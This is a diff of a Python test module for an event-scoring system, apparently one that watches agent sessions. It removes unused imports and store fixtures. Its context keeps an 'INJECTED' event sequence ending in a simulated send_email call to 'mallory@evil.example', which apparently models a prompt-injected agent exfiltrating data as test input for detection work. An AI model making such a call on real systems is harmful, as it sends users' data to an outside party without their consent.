@@ -2,10 +2,8 @@
 
 from __future__ import annotations
 
-import shutil
-from collections.abc import AsyncIterator, Callable, Mapping, Sequence
+from collections.abc import Callable, Mapping, Sequence
 from dataclasses import asdict, dataclass, replace
-from pathlib import Path
 from typing import Any
 
 import msgspec
@@ -15,12 +13,12 @@ from ioint_node.scoring.features import NAMES
 from ioint_node.scoring.model import Model, Thresholds, load_model
 from ioint_node.scoring.tracker import SessionTracker
 from ioint_node.scoring.values import Declaration, Event
-from ioint_node.store.engine import Store, WriterLimits, open_store
-from ioint_node.store.schema import decisions, events, metadata, sessions
+from ioint_node.store.engine import Store
+from ioint_node.store.schema import decisions, events, sessions
 from ioint_node.store.times import DAY_MS, to_text
 from ioint_protocol.pattern import Matcher
 from ioint_taxonomy import Step, Taxonomy, load_taxonomy
-from sqlalchemy import create_engine, insert
+from sqlalchemy import insert
 from sqlalchemy.ext.asyncio import AsyncConnection
 
 NOW = 1_795_000_000_000
@@ -156,22 +154,6 @@ INJECTED: Sequence[Event] = (
     ),
     call("1", "send_email", to="mallory@evil.example", body="notes"),
 )
-
-
-@pytest.fixture(scope="session")
-def empty_database(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    path = tmp_path_factory.mktemp("loop") / "empty.db"
-    engine = create_engine(f"sqlite:///{path}")
-    metadata.create_all(engine)
-    engine.dispose()
-    return path
-
-
-@pytest.fixture
-async def store(empty_database: Path, tmp_path: Path) -> AsyncIterator[Store]:
-    path = shutil.copy(empty_database, tmp_path / "ioint.db")
-    async with open_store(f"sqlite+aiosqlite:///{path}", WriterLimits(group_s=0.001)) as opened:
-        yield opened
 
 
 @pytest.fixture
